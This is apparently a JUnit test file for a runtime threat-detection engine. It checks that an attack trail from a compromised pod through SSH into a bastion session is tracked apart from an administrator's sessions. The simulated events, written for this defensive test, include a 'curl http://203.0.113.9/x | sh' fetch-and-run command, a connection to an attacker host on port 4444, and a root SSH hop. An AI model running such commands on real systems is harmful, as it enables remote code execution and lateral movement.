package io.sightline.engine;

import static io.sightline.engine.Events.container;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.event.ContainerContext;
import io.sightline.event.ProcessRef;
import io.sightline.event.RuntimeEvent;
import io.sightline.event.SourceRecord;
import io.sightline.storyboard.Storyboard;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * An attacker in a pod opens SSH to a bastion host; the bastion's sshd also serves an administrator before and
 * after. The storyboard must follow the attacker into the session that connection opened, and into nothing else
 * the login service started.
 */
class SshSessionStoriesTest {

    private static final String NODE = "node-1";
    private static final String BASTION = "bastion";
    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");

    private final Events events = new Events();
    private final List<RuntimeEvent> fed = new ArrayList<>();

    private final ProcessRef java = process(NODE, 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
    private final ProcessRef sh = process(NODE, 500, 10, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
    private final ProcessRef ssh = process(NODE, 520, 50, "/usr/bin/ssh", "root@10.0.2.30", ORDERS);
    private final ProcessRef sshd = process(BASTION, 700, -5000, "/usr/sbin/sshd", "-D", Optional.empty());

    @Test
    void theTrailEntersTheSessionItsConnectionOpenedAndNoOther() {
        Admin before = admin(30, 4000);
        int sshExec = attackToSsh();
        int accepted = feed(events.accept(sshd, 50.02, "10.0.2.30:22", "10.0.1.10:52000"));
        ProcessRef session = process(BASTION, 5000, 50.03, "/usr/sbin/sshd", "-D -R", Optional.empty());
        ProcessRef bash = process(BASTION, 5002, 50.6, "/bin/bash", "", Optional.empty());
        ProcessRef fetch =
                process(BASTION, 5003, 51, "/usr/bin/curl", "-fsSL http://203.0.113.9/x.sh", Optional.empty());
        int sessionExec = feed(events.exec(session, sshd));
        int bashExec = feed(events.exec(bash, session));
        int fetchExec = feed(events.exec(fetch, bash));
        Admin after = admin(80, 6000);

        Storyboard attack = attackOf(run(fed));

        assertThat(lines(attack)).contains(sshExec, accepted, sessionExec, bashExec, fetchExec);
        assertThat(lines(attack)).doesNotContainAnyElementsOf(before.lines).doesNotContainAnyElementsOf(after.lines);
        assertThat(attack.hosts()).containsExactlyInAnyOrder(NODE, BASTION);
        assertThat(attack.graph().edges())
                .contains(new Storyboard.GraphEdge("p:" + ssh.key(), "p:" + session.key(), "entered"));
    }

    @Test
    void aSessionWhoseForkNoSensorSawIsFoundByItsLoginServiceBinaryAndStart() {
        attackToSsh();
        feed(events.accept(sshd, 50.02, "10.0.2.30:22", "10.0.1.10:52000"));
        // The privilege-separated child is a fork: no exec of it, only the parent reference of the shell.
        ProcessRef forked = process(BASTION, 5001, 50.04, "/usr/sbin/sshd", "", Optional.empty());
        ProcessRef bash = process(BASTION, 5002, 50.6, "/bin/bash", "", Optional.empty());
        ProcessRef fetch =
                process(BASTION, 5003, 51, "/usr/bin/curl", "-fsSL http://203.0.113.9/x.sh", Optional.empty());
        int bashExec = feed(events.exec(bash, forked));
        int fetchExec = feed(events.exec(fetch, bash));
        Admin after = admin(80, 6000);

        Storyboard attack = attackOf(run(fed));

        assertThat(lines(attack)).contains(bashExec, fetchExec).doesNotContainAnyElementsOf(after.lines);
    }

    @Test
    void theSessionIsFoundWhateverOrderTheRecordsArriveIn() {
        Admin before = admin(30, 4000);
        attackToSsh();
        int accepted = feed(events.accept(sshd, 50.02, "10.0.2.30:22", "10.0.1.10:52000"));
        ProcessRef session = process(BASTION, 5000, 50.03, "/usr/sbin/sshd", "-D -R", Optional.empty());
        ProcessRef bash = process(BASTION, 5002, 50.6, "/bin/bash", "", Optional.empty());
        int sessionExec = feed(events.exec(session, sshd));
        int bashExec = feed(events.exec(bash, session));
        Admin after = admin(80, 6000);
        List<RuntimeEvent> shuffled = new ArrayList<>(fed);
        Collections.reverse(shuffled);

        Storyboard attack = attackOf(run(shuffled));

        assertThat(lines(attack)).contains(accepted, sessionExec, bashExec);
        assertThat(lines(attack)).doesNotContainAnyElementsOf(before.lines).doesNotContainAnyElementsOf(after.lines);
    }

    /** The pod's web server spawns a shell that talks to the attacker, which opens SSH to the bastion. */
    private int attackToSsh() {
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        int sshExec = feed(events.exec(ssh, sh));
        feed(events.connect(ssh, 50.01, "10.0.1.10:52000", "10.0.2.30:22"));
        return sshExec;
    }

    /** An administrator's session from 10.0.0.50: accept, session child, shell, one command. */
    private Admin admin(double at, long pid) {
        List<Integer> lines = new ArrayList<>();
        lines.add(feed(events.accept(sshd, at, "10.0.2.30:22", "10.0.0.50:" + (61000 + pid % 1000))));
        ProcessRef session = process(BASTION, pid, at + 0.01, "/usr/sbin/sshd", "-D -R", Optional.empty());
        ProcessRef bash = process(BASTION, pid + 2, at + 0.5, "/bin/bash", "", Optional.empty());
        ProcessRef command = process(BASTION, pid + 3, at + 1, "/usr/bin/uptime", "", Optional.empty());
        lines.add(feed(events.exec(session, sshd)));
        lines.add(feed(events.exec(bash, session)));
        lines.add(feed(events.exec(command, bash)));
        return new Admin(lines);
    }

    private record Admin(List<Integer> lines) {}

    private int feed(RuntimeEvent event) {
        fed.add(event);
        return event.source().line();
    }

    private static List<Storyboard> run(List<RuntimeEvent> input) {
        StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
        input.forEach(engine::accept);
        return engine.storyboards();
    }

    private Storyboard attackOf(List<Storyboard> storyboards) {
        return storyboards.stream()
                .filter(s -> s.hosts().contains(NODE))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no storyboard on " + NODE + ": " + storyboards));
    }

    private static Set<Integer> lines(Storyboard storyboard) {
        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
    }
}
